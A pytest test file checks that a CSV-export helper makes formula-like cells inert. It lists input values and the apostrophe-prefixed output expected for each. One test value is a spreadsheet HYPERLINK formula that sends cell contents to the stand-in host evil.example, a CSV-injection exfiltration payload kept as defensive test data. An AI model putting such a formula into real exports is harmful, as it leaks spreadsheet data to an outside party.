"""Every public CSV export makes staff-written text that starts like a formula inert."""

import pytest

from seu.csvcells import csv_cell

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Bases")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (FORMULA, "'" + FORMULA),
        ("+34 935 719 500", "'+34 935 719 500"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Obres a la plaça Major", "Obres a la plaça Major"),
        ("", ""),
        (None, ""),
        (True, "true"),
        (False, "false"),
        (-5, "-5"),
        (2.5, "2.5"),
        ([{"title": "=cmd"}], '[{"title": "=cmd"}]'),
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(value, cell):
    assert csv_cell(value) == cell
